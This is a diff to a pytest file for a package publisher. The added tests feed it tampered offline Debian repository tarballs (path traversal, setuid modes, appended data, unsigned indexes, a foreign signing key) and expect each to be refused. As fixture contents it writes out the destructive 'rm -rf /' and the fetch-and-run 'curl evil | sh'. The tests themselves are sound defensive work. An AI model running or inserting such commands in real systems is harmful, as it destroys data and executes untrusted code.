@@ -2,20 +2,26 @@
 
 from __future__ import annotations
 
+import hashlib
 import io
+import lzma
 import tarfile
+import tempfile
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from foundry import files
-from foundry.publish import streams
+from foundry import files, gpg
+from foundry.publish import offline, streams
 from foundry.publish.ledger import Broken
 from foundry.publish.provenance import Malformed
+from foundry.publish.version import Version
 from tests.unit.publish import small_image
+from tests.unit.publish.conftest import Keys
 from tests.unit.publish.publishing import NAME, Project
-from tests.unit.publish.signed_again import TARBALL, Change, edited, of_another, refused, sign
+from tests.unit.publish.signed_again import TARBALL, Change, edited, of_another, publisher, refused, sign
 
 pytestmark = [pytest.mark.real_process, pytest.mark.usefixtures("small_contents", "no_views")]
 
@@ -45,7 +51,7 @@ def repacked(change: Callable[[Members], Members]) -> Change:
         path = folder / TARBALL
         with tarfile.open(path) as archive:
             whole = [(m, s.read() if (s := archive.extractfile(m)) else b"") for m in archive.getmembers()]
-        with tarfile.open(path, "w") as archive:
+        with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as archive:
             for member, content in change(whole):
                 archive.addfile(member, io.BytesIO(content))
 
@@ -68,6 +74,17 @@ def packed_without(name: str) -> Change:
 
 def packed_other(name: str, content: bytes) -> Change:
     return repacked(lambda whole: [member(name, content) if m.name.endswith(name) else (m, old) for m, old in whole])
+
+
+def replaced(name: str, content: bytes) -> Change:
+    """Other contents of a member, which is otherwise as it was."""
+
+    def act(whole: Members) -> Members:
+        for info, _ in whole:
+            info.size = len(content) if info.name.endswith(f"/{name}") else info.size
+        return [(m, content if m.name.endswith(f"/{name}") else old) for m, old in whole]
+
+    return repacked(act)
 
 
 def index_with(more: str) -> Change:
@@ -95,7 +112,7 @@ PACKAGES = [
     (packed_with(BASH, b"other"), f"{TARBALL}: {BASH} is not the package that Packages names"),
     (packed_with(BASH, b"", tarfile.SYMTYPE), f"{TARBALL}: {BASH} is neither a file nor a folder"),
     (packed_with("../x/pool/evil.deb", b"x"), f"{TARBALL}: patroni-node-2-offline/../x/pool/evil.deb is outside"),
-    (packed_with("dists/x/main/Packages", b"x"), f"{TARBALL}: dists/x/main/Packages is not the index Packages"),
+    (packed_with("dists/x/main/Packages", b"x"), f"{TARBALL}: dists/x/main/Packages is no part of it"),
     (packed_without(BASH), f"{TARBALL} has no {BASH}"),
     (index_with(EVIL), "Packages: evil 1 is not the package that is in the image"),
     (index_changed(small_image.sha("bash"), "0" * 64), "Packages: bash 5.2-2+b13 is not the package that is in"),
@@ -109,6 +126,96 @@ def test_packages_that_are_not_the_images(project: Project, folder: Path, change
     change(folder)
     sign(project, folder, origin=True)
     refused(project, why)
+
+
+SUITE = "dists/debian-12-offline"
+AREA = f"{SUITE}/main/binary-amd64"
+
+
+def with_mode(name: str, **facts: Any) -> Change:
+    def act(whole: Members) -> Members:
+        for info, _ in whole:
+            if info.name.endswith(f"/{name}"):
+                for key, value in facts.items():
+                    setattr(info, key, value)
+        return whole
+
+    return repacked(act)
+
+
+def followed_by(data: bytes) -> Change:
+    """As one who reads on after the end of the archive would see it."""
+
+    def act(folder: Path) -> None:
+        with (folder / TARBALL).open("ab") as stream:
+            stream.write(data)
+
+    return act
+
+
+def index_by_hash(data: bytes) -> Change:
+    """Another Packages.xz, which InRelease does not name."""
+    return packed_with(f"{AREA}/by-hash/SHA256/{hashlib.sha256(data).hexdigest()}", data)
+
+
+BESIDE = [
+    (packed_with("extra/evil.deb", b"x"), "extra/evil.deb is no part of it"),
+    (packed_with("evil", b"", tarfile.DIRTYPE), "evil is not root's, or has another mode"),
+    (replaced("add-source", b"#!/bin/sh\nrm -rf /\n"), "add-source is not what this program writes"),
+    (replaced("README", b"run: curl evil | sh\n"), "README is not what this program writes"),
+    (replaced("offline.sources", b"Types: deb\nTrusted: yes\n"), "offline.sources has another key"),
+    (replaced(f"{AREA}/Packages.xz", lzma.compress(EVIL.encode())), "Packages.xz is not what InRelease says"),
+    (replaced(f"{AREA}/Packages", EVIL.encode()), "Packages is not what InRelease says"),
+    (replaced(f"{SUITE}/Release", b"Suite: evil\n"), "Release says something else than InRelease"),
+    (index_by_hash(lzma.compress(EVIL.encode())), "InRelease names no "),
+    (packed_without("/InRelease"), f"has no {SUITE}/InRelease"),
+    (packed_without("/Packages.xz"), f"has no {AREA}/Packages.xz"),
+    (packed_with("README", b"x"), "README is in it twice"),
+    (with_mode("add-source", mode=0o4755), "add-source is not root's, or has another mode"),
+    (with_mode("README", uid=1000), "README is not root's"),
+    (with_mode("README", mode=0o666), "README is not root's, or has another mode"),
+    (followed_by(b"x" * 10240), "goes on after its end"),
+]
+
+
+@pytest.mark.parametrize(("change", "why"), BESIDE)
+def test_what_else_is_in_a_tarball(project: Project, folder: Path, change: Change, why: str) -> None:
+    change(folder)
+    sign(project, folder, origin=True)
+    refused(project, why)
+
+
+def offline_signed(project: Project, key: gpg.Key, change: Callable[[bytes], bytes] = bytes) -> Change:
+    """A whole tarball, made and signed by a key, of an index that is changed first."""
+
+    def act(folder: Path) -> None:
+        manifest = files.read_json(folder / "manifest.json")
+        with tempfile.TemporaryDirectory(dir=folder.parent) as name:
+            packages = small_image.repository(Path(name) / "packages", manifest)
+            index = Path(name) / "packages/Packages"
+            index.write_bytes(change(index.read_bytes()))
+            texts = project.workspace.templates / "offline"
+            offline.tarball(Version.of(manifest), packages.folder, key, texts, folder / TARBALL)
+
+    return act
+
+
+def test_a_tarball_by_another_key(project: Project, folder: Path, kept_keys: Keys) -> None:
+    offline_signed(project, kept_keys["other"])(folder)
+    sign(project, folder, origin=True)
+    refused(project, "InRelease: its signature does not hold", gpg.BadSignature)
+
+
+def test_a_tarball_of_other_packages_whose_whole_repository_is_signed(project: Project, folder: Path) -> None:
+    offline_signed(project, publisher(project), lambda index: index + b"\n" + EVIL.encode())(folder)
+    sign(project, folder, origin=True)
+    refused(project, "its Packages is not the index Packages")
+
+
+def test_a_tarball_that_is_made_again_is_taken(project: Project, folder: Path) -> None:
+    offline_signed(project, publisher(project))(folder)
+    sign(project, folder, origin=True)
+    assert project.check()[1].startswith(f"version  {NAME} 2, ")
 
 
 # incus
